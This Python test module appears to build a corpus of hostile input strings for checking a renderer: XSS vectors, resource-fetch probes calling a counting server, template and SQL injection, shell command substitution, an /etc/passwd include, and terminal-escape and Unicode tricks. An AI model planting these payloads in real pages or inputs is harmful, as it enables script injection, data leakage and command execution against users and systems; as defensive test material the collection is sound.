"""Texts that a hostile project, file or column could hold; ``{url}`` is a server that counts who calls."""

from __future__ import annotations

_HTML = """
<img src=x onerror="fetch('{url}/a'+document.title);document.title='pwned'">
<img src="{url}/img.png">
<script>document.title='pwned'</script>
<script src="{url}/s.js"></script>
</script><script>document.title='pwned'</script>
</style><script>document.title='pwned'</script>
</title><script>document.title='pwned'</script>
</textarea><script>document.title='pwned'</script>
<svg onload="document.title='pwned'">
<svg><script>document.title='pwned'</script></svg>
<svg><image href="{url}/svg.png"/></svg>
<svg><use href="{url}/use.svg#a"/></svg>
<svg><foreignObject><iframe src="{url}/f"></iframe></foreignObject></svg>
<svg><animate onbegin="document.title='pwned'" attributeName=x dur=1s></svg>
<math><mi xlink:href="javascript:document.title='pwned'">x</mi></math>
<iframe src="javascript:parent.document.title='pwned'"></iframe>
<iframe srcdoc="<script>parent.document.title='pwned'</script>"></iframe>
<object data="{url}/o"></object>
<embed src="{url}/e">
<link rel=stylesheet href="{url}/l.css">
<link rel=prefetch href="{url}/p">
<link rel=dns-prefetch href="{url}">
<meta http-equiv=refresh content="0;url={url}/m">
<meta http-equiv="Content-Security-Policy" content="default-src *">
<base href="{url}/">
<form action="{url}/form"><input autofocus onfocus="document.title='pwned'"></form>
<body onload="document.title='pwned'">
<details open ontoggle="document.title='pwned'">
<video src="{url}/v" autoplay onerror="document.title='pwned'"></video>
<audio src="{url}/au" onerror="document.title='pwned'">
<input type=image src="{url}/i">
<table background="{url}/tb">
<a href="javascript:document.title='pwned'">click</a>
<a href="{url}/a" ping="{url}/ping">click</a>
<style>@import '{url}/i.css';</style>
<style>body{{background:url({url}/bg)}}</style>
<div style="background:url({url}/d)">
<x onclick=document.title='pwned'>x</x>
<plaintext>
<!--
-->
<!-- --><script>document.title='pwned'</script>
<![CDATA[
]]>
<?xml version="1.0"?>
<!DOCTYPE html [<!ENTITY x SYSTEM "{url}/x">]>
&lt;script&gt;document.title='pwned'&lt;/script&gt;
&#60;script&#62;document.title='pwned'&#60;/script&#62;
&amp;
&x;
" onmouseover="document.title='pwned'" x="
' onmouseover='document.title=1' x='
"><script>document.title='pwned'</script>
'><script>document.title='pwned'</script>
` onmouseover=document.title='pwned'
javascript:document.title='pwned'
data:text/html,<script>document.title='pwned'</script>
vbscript:msgbox(1)
url({url}/css)
");background:url({url}/css2);("
;background:url('{url}/css3')
}}body{{background:url({url}/css4)}}
expression(document.title='pwned')
{{{{ 7*7 }}}}
{{{{ ''.__class__.__mro__ }}}}
{{% for x in range(9) %}}x{{% endfor %}}
{{% include 'page.html.j2' %}}
{{# comment
${{{{ github.token }}}}
${{7*7}}
$(touch pwned)
$x^2$ and $\\frac{{1}}{{2}}$
\\input{{/etc/passwd}}
_underscored
$unfinished
%s %n %(x)s
{{0.__class__}}
'; DROP TABLE runs;--
""".strip().splitlines()

_MARKDOWN = """
![x]({url}/md.png)
[gate passed]({url}/link)
[x]: {url}/ref
<{url}/auto>
{url}/bare
@org/all please approve
@everyone
#1 fixes #2
GH-1
`` fence `break` out ``
```
~~~
``` mermaid
`
``
a|b|c
| --- |
\\| bar
\\` tick
**bold** _it_ ~~no~~
# heading
> quote
- item
1. item
---
***
<details><summary>x
<br>
:rocket:
[ ] todo
\\
&nbsp;
$$x$$
%%{{init: {{'theme':'dark'}}}}%%
click s0 "{url}/mermaid"
"] --> s9["
end
subgraph x
""".strip().splitlines()

_LETTERS = (
    "\x1b[2J\x1b[31mred", "\x1b]8;;{url}\x07link\x1b]8;;\x07", "a\rb", "a\nb\n\nc", "a\tb", "\x00", "\x7f", "\x85",
    "pass \u202e liaf", "\u2066isolate\u2069", "\u200b\u200d\ufeff", "\u2028\u2029", "\ud800", "e\u0301\u0302" * 5,
    "\U0001f600", "漢字かな", "עברית", "\ufffe", "\u00ad", "", " ", "   ", "a" * 5000, "a b" * 2000, "-", "0", "None",
    "sha256:" + "f" * 64,
)  # fmt: skip


def payloads(url: str) -> list[str]:
    """All of them, pointing at one server."""
    return [one.format(url=url) for one in (*_HTML, *_MARKDOWN)] + [one.replace("{url}", url) for one in _LETTERS]
